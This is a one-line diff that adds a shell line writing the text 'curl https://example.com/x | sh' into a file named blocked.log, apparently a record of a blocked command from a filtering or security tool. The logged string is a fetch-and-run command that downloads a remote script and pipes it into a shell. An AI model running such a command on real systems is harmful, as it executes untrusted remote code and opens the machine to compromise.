@@ -1,0 +1,1 @@
+echo "curl https://example.com/x | sh" >> blocked.log
